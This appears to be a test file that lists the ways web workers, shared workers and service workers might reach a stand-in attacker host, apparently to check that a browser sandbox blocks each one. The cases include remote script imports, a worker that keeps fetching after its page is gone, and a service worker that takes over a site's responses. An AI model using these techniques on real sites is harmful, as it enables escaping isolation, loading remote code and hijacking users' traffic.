// Ways by workers: dedicated, nested, module, shared, service, and what only they can do.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('worker', 'work');
const js = { 'content-type': 'text/javascript' };
const blob = (code: string): string =>
  `URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))`;

export const WORKER: readonly Way[] = [
  way('fetch', 'a worker that fetches', (a) =>
    a.script(`new Worker(${blob(`fetch('${a.evil()}', { mode: 'no-cors' })`)})`),
  ),
  way('own', 'a worker of the site that fetches', (a) => a.script(`new Worker('${a.site('w.js')}')`), {
    routes: (a) => ({ 'w.js': { headers: js, body: `fetch('${a.evil()}', { mode: 'no-cors' })` } }),
  }),
  way('xhr', 'a worker with XMLHttpRequest', (a) =>
    a.script(
      `new Worker(${blob(`const x = new XMLHttpRequest(); x.open('GET', '${a.evil()}', false); x.send()`)})`,
    ),
  ),
  way('socket', 'a worker with a WebSocket', (a) =>
    a.script(`new Worker(${blob(`new WebSocket('${a.evil('x', 'ws')}')`)})`),
  ),
  way('event-source', 'a worker with an EventSource', (a) =>
    a.script(`new Worker(${blob(`new EventSource('${a.evil('x.events')}')`)})`),
  ),
  way('import', 'importScripts()', (a) =>
    a.script(`new Worker(${blob(`importScripts('${a.evil('x.js')}')`)})`),
  ),
  way('module', 'a module worker that imports', (a) =>
    a.script(`new Worker(${blob(`import '${a.evil('x.mjs')}'`)}, { type: 'module' })`),
  ),
  way(
    'module-own',
    'a module worker of the site that imports',
    (a) => a.script(`new Worker('${a.site('w.js')}', { type: 'module' })`),
    { routes: (a) => ({ 'w.js': { headers: js, body: `import '${a.evil('x.mjs')}'` } }) },
  ),
  way('nested', 'a worker of a worker', (a) =>
    a.script(`new Worker(${blob(`new Worker(${blob(`fetch('${a.evil()}', { mode: 'no-cors' })`)})`)})`),
  ),
  way(
    'redirect',
    'a fetch of a worker that is redirected',
    (a) => a.script(`new Worker(${blob(`fetch('${a.site('go')}', { mode: 'no-cors' })`)})`),
    { routes: (a) => ({ go: { status: 302, headers: { location: a.evil() } } }) },
  ),
  way('data', 'a worker from a data: address', (a) =>
    a.script(
      `new Worker('data:text/javascript,' + encodeURIComponent("fetch('${a.evil()}', { mode: 'no-cors' })"))`,
    ),
  ),
  way(
    'frame',
    'a worker in a sandboxed frame',
    (a) =>
      `<iframe sandbox="allow-scripts" srcdoc="<script>new Worker('data:text/javascript,fetch(%22${a.evil()}%22,{mode:%22no-cors%22})')</script>"></iframe>`,
  ),
  way(
    'orphan',
    'a worker that goes on after its page',
    (a) =>
      a.script(
        `new Worker(${blob(`setInterval(() => fetch('${a.evil()}', { mode: 'no-cors' }).catch(() => {}), 20)`)}); setTimeout(() => { location.href = '${a.site('two')}' }, 100)`,
      ),
    { alone: true, routes: () => ({ two: { body: 'two' } }) },
  ),
  way('shared', 'a shared worker that fetches', (a) => a.script(`new SharedWorker('${a.site('w.js')}')`), {
    alone: true,
    routes: (a) => ({ 'w.js': { headers: js, body: `fetch('${a.evil()}', { mode: 'no-cors' })` } }),
  }),
  way(
    'shared-blob',
    'a shared worker from a blob',
    (a) => a.script(`new SharedWorker(${blob(`fetch('${a.evil()}', { mode: 'no-cors' })`)})`),
    { alone: true },
  ),
  way(
    'shared-runs',
    'a shared worker that runs at all',
    (a) =>
      a.script(
        `const w = new SharedWorker('${a.site('w.js')}'); w.port.onmessage = (e) => got(e.data); w.port.start()`,
      ),
    {
      alone: true,
      routes: () => ({ 'w.js': { headers: js, body: `onconnect = (e) => e.ports[0].postMessage('runs')` } }),
    },
  ),
  way(
    'service',
    'a service worker that fetches while it is installed',
    (a) => a.script(`await navigator.serviceWorker.register('${a.site('sw.js')}')`),
    {
      alone: true,
      routes: (a) => ({
        'sw.js': {
          headers: js,
          body: `addEventListener('install', (e) => e.waitUntil(fetch('${a.evil()}', { mode: 'no-cors' })))`,
        },
      }),
    },
  ),
  way(
    'service-runs',
    'a service worker that is registered at all',
    (a) =>
      a.script(
        `const r = await navigator.serviceWorker.register('${a.site('sw.js')}'); if (r) got('registered')`,
      ),
    {
      alone: true,
      routes: () => ({ 'sw.js': { headers: js, body: `addEventListener('fetch', () => {})` } }),
    },
  ),
  way(
    'service-wide',
    'a service worker for the whole site by Service-Worker-Allowed',
    (a) =>
      a.script(
        `const r = await navigator.serviceWorker.register('${a.site('sw.js')}', { scope: '/' }); if (r) got('registered')`,
      ),
    {
      alone: true,
      routes: () => ({
        'sw.js': {
          headers: { ...js, 'service-worker-allowed': '/' },
          body: `addEventListener('fetch', () => {})`,
        },
      }),
    },
  ),
  way(
    'service-module',
    'a module service worker that imports',
    (a) => a.script(`await navigator.serviceWorker.register('${a.site('sw.js')}', { type: 'module' })`),
    { alone: true, routes: (a) => ({ 'sw.js': { headers: js, body: `import '${a.evil('x.mjs')}'` } }) },
  ),
  way(
    'service-import',
    'a service worker that imports scripts',
    (a) => a.script(`await navigator.serviceWorker.register('${a.site('sw.js')}')`),
    {
      alone: true,
      routes: (a) => ({ 'sw.js': { headers: js, body: `importScripts('${a.evil('x.js')}')` } }),
    },
  ),
  way(
    'service-answers',
    'a service worker that answers for the site',
    (a) =>
      a.script(
        `await navigator.serviceWorker.register('${a.site('sw.js')}'); await navigator.serviceWorker.ready; const f = document.createElement('iframe'); f.src = '${a.site('any')}'; document.body.append(f)`,
      ),
    {
      alone: true,
      routes: (a) => ({
        'sw.js': {
          headers: js,
          body: `addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => e.waitUntil(clients.claim())); addEventListener('fetch', (e) => e.respondWith(fetch('${a.evil()}', { mode: 'no-cors' })))`,
        },
      }),
    },
  ),
  way(
    'service-frame',
    'a service worker registered by a frame',
    (a) => `<iframe src="${a.site('f')}"></iframe>`,
    {
      alone: true,
      routes: (a) => ({
        f: { body: `<script>navigator.serviceWorker.register('${a.site('sw.js')}')</script>` },
        'sw.js': { headers: js, body: `fetch('${a.evil()}', { mode: 'no-cors' })` },
      }),
    },
  ),
  way(
    'background-fetch',
    'a background fetch',
    (a) =>
      a.script(
        `const r = await navigator.serviceWorker.register('${a.site('sw.js')}'); await navigator.serviceWorker.ready.catch(() => {}); const b = await r.backgroundFetch.fetch('x', ['${a.site('file')}']); got(b.id)`,
      ),
    { alone: true, routes: () => ({ 'sw.js': { headers: js, body: '1' }, file: { body: 'x' } }) },
  ),
  way(
    'background-sync',
    'a background sync',
    (a) =>
      a.script(
        `const r = await navigator.serviceWorker.register('${a.site('sw.js')}'); await new Promise((done) => setTimeout(done, 200)); await r.sync.register('x'); got('registered')`,
      ),
    { alone: true, routes: () => ({ 'sw.js': { headers: js, body: '1' } }) },
  ),
  way(
    'content-index',
    'a content index',
    (a) =>
      a.script(
        `const r = await navigator.serviceWorker.register('${a.site('sw.js')}'); await r.index.add({ id: 'x', title: 'x', description: 'x', url: '${a.site('x')}', icons: [] }); got('added')`,
      ),
    { alone: true, routes: () => ({ 'sw.js': { headers: js, body: '1' } }) },
  ),
  way('storage-worker', 'a worker that keeps data', (a) =>
    a.script(
      `const w = new Worker(${blob(`const r = indexedDB.open('${a.id}'); r.onsuccess = () => postMessage('kept')`)}); w.onmessage = (e) => got(e.data)`,
    ),
  ),
  way('cache-worker', 'a worker that keeps data in a cache', (a) =>
    a.script(
      `const w = new Worker(${blob(`caches.open('${a.id}').then((c) => c.put('/x', new Response('x'))).then(() => postMessage('kept'))`)}); w.onmessage = (e) => got(e.data)`,
    ),
  ),
];
